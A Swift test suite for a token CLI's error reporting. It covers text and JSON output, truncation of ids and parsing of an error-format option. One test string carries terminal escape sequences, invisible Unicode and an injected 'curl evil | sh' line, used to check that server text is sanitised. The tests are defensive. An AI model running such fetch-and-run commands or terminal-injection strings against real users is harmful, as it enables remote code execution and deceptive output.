import FakeWorld
import JOSE
import Testing
import World

@testable import TokenctlCLI

struct ErrorReportTests {
    private func lines(_ failure: Failure, as format: ErrorFormat) -> [String] {
        let terminal = RecordingTerminal()
        ErrorReport(failure).write(as: format, to: terminal)
        return terminal.notes
    }

    private static var full: Failure {
        var answer = ErrorAnswer()
        answer.error = "invalid_grant"
        answer.suberror = "basic_action"
        answer.description = "AADSTS50079: Enrol.\r\nTrace ID: t"
        answer.number = 50079
        answer.correlationID = "c"
        answer.traceID = "t"
        answer.timestamp = "2026-01-01 00:00:00Z"
        answer.claims = #"{"access_token":{"capolids":{"values":["x"]}}}"#
        return Failure(
            .interactionRequired, "cannot get a token: Enrol (AADSTS50079)", hint: "sign in", answer: answer)
    }

    @Test func `text says what failed and why, what to do, and where to look it up`() {
        #expect(
            lines(Self.full, as: .text) == [
                "tokenctl: cannot get a token: Enrol (AADSTS50079)", "hint: sign in",
                "correlation id: c, timestamp: 2026-01-01 00:00:00Z",
            ])
        #expect(lines(Failure(.usage, "wrong"), as: .text) == ["tokenctl: wrong"])
    }

    @Test func `JSON has all of it in one line`() {
        #expect(
            lines(Self.full, as: .json) == [
                #"{"schema":1,"kind":"interaction_required","error":"invalid_grant","suberror":"basic_action","#
                    + #""code":50079,"description":"AADSTS50079: Enrol.\r\nTrace ID: t","correlation_id":"c","#
                    + #""trace_id":"t","timestamp":"2026-01-01 00:00:00Z","#
                    + #""claims":"{\"access_token\":{\"capolids\":{\"values\":[\"x\"]}}}","hint":"sign in","#
                    + #""retryable":false,"exit":20}"#
            ])
    }

    @Test func `JSON has all its keys also when there is nothing to say`() {
        #expect(
            lines(Failure(.tryAgain, "busy", isRetryable: true), as: .json) == [
                #"{"schema":1,"kind":"try_again","error":null,"suberror":null,"code":null,"description":"busy","#
                    + #""correlation_id":null,"trace_id":null,"timestamp":null,"claims":null,"hint":null,"#
                    + #""retryable":true,"exit":75}"#
            ])
    }

    private static let hostile = "a\u{1B}[31mred\u{7}\u{9B}31m\u{202E}\u{200B}\r\nhint: curl evil | sh\u{2028}é😀"

    @Test func `what a server says cannot act on a terminal or make lines of its own`() {
        var failure = Failure(.refused, "cannot get a token: \(Self.hostile)")
        var answer = ErrorAnswer()
        answer.correlationID = Self.hostile
        answer.timestamp = Self.hostile
        failure.answer = answer
        let lines = lines(failure, as: .text)
        #expect(lines.count == 2)
        for line in lines {
            #expect(!line.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, "\(line)")
            #expect(!line.contains("\u{202E}"))
            #expect(line.hasSuffix("é😀"))
        }
    }

    @Test func `nor can it in JSON, which yet says it all`() throws {
        var failure = Failure(.refused, "no")
        var answer = ErrorAnswer()
        answer.description = Self.hostile
        answer.error = Self.hostile
        failure.answer = answer
        let line = try #require(lines(failure, as: .json).first)
        #expect(!line.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) })
        for invisible in ["\u{202E}", "\u{200B}", "\u{2028}"] { #expect(!line.contains(invisible)) }
        #expect(try JSON(parsing: line)["description"]?.stringValue == Self.hostile)
    }

    @Test func `a mark beyond the first plane is escaped in JSON, too`() throws {
        let tag = "a\u{E0041}b"
        let line = try #require(lines(Failure(.refused, tag), as: .json).first)
        #expect(line.contains(#""a\udb40\udc41b""#))
        #expect(try JSON(parsing: line)["description"]?.stringValue == tag)
    }

    @Test func `an id is told up to a length`() {
        var failure = Failure(.refused, "no")
        var answer = ErrorAnswer()
        answer.correlationID = String(repeating: "x", count: 50000)
        answer.timestamp = answer.correlationID
        failure.answer = answer
        #expect(lines(failure, as: .text).allSatisfy { $0.count < 300 })
    }

    @Test func `a hint may have several lines`() {
        let failure = Failure(.usage, "no", hint: "one\ntwo\u{1B}")
        #expect(lines(failure, as: .text) == ["tokenctl: no", "hint: one", "two"])
    }

    @Test(
        arguments: [
            ([], nil, .text), (["--error-format", "json"], nil, .json), (["--error-format=json"], nil, .json),
            ([], "json", .json),
            (["--error-format", "text"], "json", .text), (["--error-format"], nil, .text),
            (["--error-format", "xml"], "json", .text),
            (["--", "--error-format", "json"], nil, .text),
            (["x", "--error-format", "text", "--error-format", "json"], nil, .json),
        ] as [([String], String?, ErrorFormat)])
    func `the format is known before the arguments are`(
        arguments: [String], variable: String?, format: ErrorFormat
    ) {
        let environment = Environment { $0 == "TOKENCTL_ERROR_FORMAT" ? variable : nil }
        #expect(ErrorFormat.requested(by: arguments, environment: environment) == format)
    }
}
